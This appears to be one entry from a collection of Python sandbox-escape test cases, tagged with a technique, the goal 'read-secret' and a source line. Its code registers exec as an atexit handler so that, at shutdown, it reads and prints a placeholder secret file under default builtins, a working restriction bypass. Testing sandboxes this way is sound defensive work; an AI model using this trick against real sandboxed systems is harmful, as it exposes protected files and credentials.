# technique: exec as exit handler: it runs on an empty stack
# goal: read-secret
# source: own analysis: the default builtins of exec
import atexit
atexit.register(exec, 'print(open("@SECRET@").read(), flush=True)', {})
